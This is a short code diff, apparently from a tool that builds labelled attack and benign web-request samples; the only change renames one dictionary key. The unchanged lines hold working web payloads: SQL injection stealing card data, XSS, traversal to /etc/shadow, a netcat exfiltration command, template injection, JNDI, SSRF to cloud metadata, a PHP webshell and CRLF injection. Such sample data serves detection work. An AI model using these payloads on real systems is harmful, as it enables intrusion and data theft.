@@ -14,7 +14,7 @@ COLUMNS = ["method", "uri_path", "uri_query", "user_agent", "referer"]
 BROWSER = "Mozilla/5.0 (X11; Linux x86_64; rv:125.0) Gecko/20100101 Firefox/125.0"
 ATTACKS = {"sqli": "9' AND 7=7 UNION SELECT card,cvv FROM payments-- ", "xss": '"><svg/onload=confirm(document.domain)>',
     "path_traversal": "../../../../etc/shadow", "command_injection": "8.8.8.8; cat /etc/hosts | nc 10.1.1.1 99",
-    "template_injection": "{{cycler.__init__.__globals__.os.popen('id')}}", "jndi_and_deserialization": "${jndi:rmi://lab.invalid/o}",
+    "template_injection": "{{cycler.__init__.__globals__.os.popen('id')}}", "jndi_and_deserialisation": "${jndi:rmi://lab.invalid/o}",
     "xxe_and_ssrf": "http://169.254.169.254/latest/meta-data/", "php_and_webshell": "<?php passthru($_REQUEST['k']); ?>",
     "protocol_abuse": "en\r\nSet-Cookie: admin=1"}  # fmt: skip
 BENIGN = (
